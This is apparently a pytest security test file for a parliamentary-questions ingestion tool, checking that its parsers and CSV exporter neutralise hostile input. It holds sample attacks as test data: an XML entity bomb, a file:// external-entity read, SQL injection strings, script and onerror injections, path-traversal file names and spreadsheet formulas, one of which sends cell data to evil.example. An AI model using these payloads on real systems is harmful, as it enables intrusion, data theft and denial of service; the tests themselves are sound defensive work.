"""Malicious documents in the inbox: none of their contents is run, expanded or followed."""

import csv
import datetime as dt
import io
import json
import os
import tracemalloc
from pathlib import Path

import duckdb
import pytest

from orderpaper import ingest
from orderpaper.config import Paths
from orderpaper.errors import ParseError
from orderpaper.landing import Window
from orderpaper.reading.markup import html_to_text
from orderpaper.records import Document
from orderpaper.sources.inbox.parse import parse
from orderpaper.sources.press_blog.payload import read_feed
from orderpaper.warehouse.export import cell, write_csv
from orderpaper.warehouse.load import load

DAY = Window(dt.date(2025, 3, 10), dt.date(2025, 3, 10))
QUESTION = "Question to the Home Office:\nTo ask the Secretary of State, {}\nAnswer:\n{}\n"
EXAMPLES = Path(__file__).parents[1] / "parsers" / "examples"


def dropped(body: bytes):
    """Return all that the inbox parses from a file as one string, or None if it refuses the file."""
    document = Document(
        document_id="0" * 64,
        source="inbox",
        kind="file",
        url="a.html",
        media_type="text/html",
        fetched_at=dt.datetime(2025, 1, 1, tzinfo=dt.UTC),
        body=body,
    )
    try:
        return repr(parse(document))
    except ParseError:
        return None


@pytest.fixture
def paths(tmp_path):
    return Paths(tmp_path / 'it\'s "home"; DROP', "simulated")


@pytest.fixture
def inbox(tmp_path, monkeypatch):
    folder = tmp_path / "inbox"
    folder.mkdir()
    monkeypatch.setenv("ORDERPAPER_INBOX", str(folder))
    return folder


def take(paths):
    """Fetch, parse and load the inbox."""
    ingest.parse(paths, "inbox", ingest.fetch(paths, "inbox", DAY, None, "run").manifest)
    load(paths)


def rows(paths, sql):
    with duckdb.connect(paths.work_database, read_only=True) as connection:
        return connection.execute(sql).fetchall()


def with_document_type(body: bytes, declared: bytes) -> bytes:
    """An XML or HTML text with a document type of its own, whose entity `a` stands in its text."""
    body = body.replace(b"<!DOCTYPE html>", b"")
    head, close, rest = body.partition(b"?>") if body.startswith(b"<?xml") else (b"", b"", body)
    start = rest.index(b"</title>")
    return head + close + b"<!DOCTYPE a [" + declared + b"]>" + rest[:start] + b"&a;" + rest[start:]


BOMB = b'<!ENTITY b0 "lollollollol">' + b"".join(
    b'<!ENTITY b%d "%s">' % (n, b"&b%d;" % (n - 1) * 10) for n in range(1, 10)
)


@pytest.mark.parametrize("example", ["press_blog/feed.xml", "press_blog/page.html", "inbox/saved_page.html"])
def test_entities_are_neither_expanded_nor_read(example, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the crown jewels")
    body = (EXAMPLES / example).read_bytes()
    assert dropped(body) is not None or example.endswith("feed.xml")
    for declared in (BOMB + b'<!ENTITY a "&b9;">', b'<!ENTITY a SYSTEM "file://%s">' % bytes(secret)):
        tracemalloc.start()
        hostile = with_document_type(body, declared)
        assert "crown jewels" not in (dropped(hostile) or "")
        if example.endswith("feed.xml"):
            with pytest.raises(ParseError, match=r"document type|not an Atom feed"):
                read_feed(hostile)
        assert tracemalloc.get_traced_memory()[1] < 50_000_000
        tracemalloc.stop()


@pytest.mark.parametrize(
    "body",
    [
        b"<div>" * 200_000 + b"Question to the Home Office:",
        b"<!doctype html><html><body>" + b"<table><tr><td>" * 50_000,
        b"[" * 500_000,
        b'{"totalResults": 1, "results": [{"value": ' + b'{"a":' * 200_000,
        b"<?xml version='1.0'?>" + b"<feed>" * 200_000,
        b"(" * 500_000,
    ],
)
def test_deep_nesting_ends_in_quarantine_and_not_in_a_crash(body):
    assert dropped(body) is None


def test_scripts_are_no_text():
    hidden = "<script>steal()</script><style>steal{}</style><template>steal</template><noscript>steal</noscript>"
    assert html_to_text(f"<p>Before{hidden}after <img src=x onerror=steal()></p>") == "Beforeafter"
    page = (EXAMPLES / "inbox" / "saved_page.html").read_bytes()
    plain, hostile = dropped(page), dropped(page.replace(b"</p>", hidden.encode() + b"</p>"))
    assert plain == hostile
    assert "steal" not in hostile


SQL = "'); DROP TABLE raw.document; --\"; {{ env_var('HOME') }} ${HOME} %(x)s {batch}"


def test_sql_in_a_document_or_its_name_is_text(paths, inbox):
    name = "a'); DROP TABLE raw.document; -- {{ 1 }}.txt"
    (inbox / name).write_text(QUESTION.format(f"what {SQL} means.", f"It means {SQL}."))
    take(paths)
    take(paths)
    assert rows(paths, "SELECT url FROM raw.document") == [(name,)]
    ((question, answer),) = rows(paths, "SELECT question.text, answer.text FROM raw.question, raw.answer")
    assert question == f"To ask the Secretary of State, what {SQL} means."
    assert answer.endswith(f"It means {SQL}.")


def test_names_of_dropped_files_lead_nowhere(paths, inbox, tmp_path):
    secret = tmp_path / "secret" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("the crown jewels")
    (inbox / "link.txt").symlink_to(secret)
    (inbox / "folder").symlink_to(secret.parent)
    (inbox / "loop").symlink_to(inbox)
    (inbox / "gone.txt").symlink_to(tmp_path / "nowhere")
    os.mkfifo(inbox / "pipe.txt")
    names = ["up\\..\\..\\up.txt", "%2e%2e%2fup.txt", "new\nline.txt", "…txt", "-rf", "a" * 250]
    for number, name in enumerate([*names, os.fsdecode(b"caf\xe9.txt")]):
        (inbox / name).write_text(QUESTION.format(f"what {number} is.", "It is."))
    before = {path for path in tmp_path.rglob("*") if paths.home not in path.parents}
    take(paths)
    assert {url for (url,) in rows(paths, "SELECT url FROM raw.document")} == {*names, "caf\\xe9.txt"}
    assert {path for path in tmp_path.rglob("*") if paths.home not in path.parents} - before == {paths.home}
    assert not [path for path in paths.landing.rglob("*") if path.is_file() and b"crown jewels" in path.read_bytes()]


FORMULAS = [
    '=HYPERLINK("https://evil.example?x="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\v=1+1",
    "\N{ZERO WIDTH SPACE}\N{NO-BREAK SPACE} =1+1",
    "\x00@SUM(A1:A2)",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_exported_as_text(formula):
    out = io.StringIO(newline="")
    with duckdb.connect() as connection:
        connection.execute("CREATE TABLE t AS SELECT ? AS text, -5 AS number, -1.5::DECIMAL(4, 2) AS share", [formula])
        write_csv(connection, 'SELECT *, text || \'","\' AS split, [text] AS list, 1 AS "=1" FROM t', out)
    header, (text, number, share, split, listed, _) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert header == ["text", "number", "share", "split", "list", "'=1"]
    assert (text, number, share) == (f"'{formula}", "-5", "-1.50")
    assert split == f'\'{formula}","'
    assert listed.startswith("[")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("foo;=cmd", "'foo;'=cmd"),
        ("foo; \N{NO-BREAK SPACE}=cmd", "'foo;' \N{NO-BREAK SPACE}=cmd"),
        ("a\t+1\n-2;@b|＝c", "'a\t'+1\n'-2;'@b|'＝c"),
        ("foo\N{LINE SEPARATOR}=cmd", "'foo\N{LINE SEPARATOR}'=cmd"),
        ("foo;\N{RIGHT-TO-LEFT OVERRIDE}=cmd", "'foo;'\N{RIGHT-TO-LEFT OVERRIDE}=cmd"),
        ("\N{HANGUL FILLER}=cmd", "'\N{HANGUL FILLER}=cmd"),
        ("=a;=b", "'=a;'=b"),
        ("a; b = c, -5 and x@y", "a; b = c, -5 and x@y"),
    ],
)
def test_a_formula_after_a_separator_of_another_locale_is_text_too(text, written):
    assert cell(text) == written
    for separator in ";\t|\n":
        assert not [part for part in str(cell(text)).split(separator) if part.strip()[:1] in set("=+-@＝＋－＠")]


def test_a_payload_with_a_hostile_number_is_refused(paths, inbox):
    page = {"totalResults": 1, "results": [{"value": {"id": 10**400, "uin": "1"}, "links": []}]}
    (inbox / "page.json").write_text(json.dumps(page))
    take(paths)
    assert rows(paths, "SELECT stage FROM raw.quarantine") == [("parse",)]
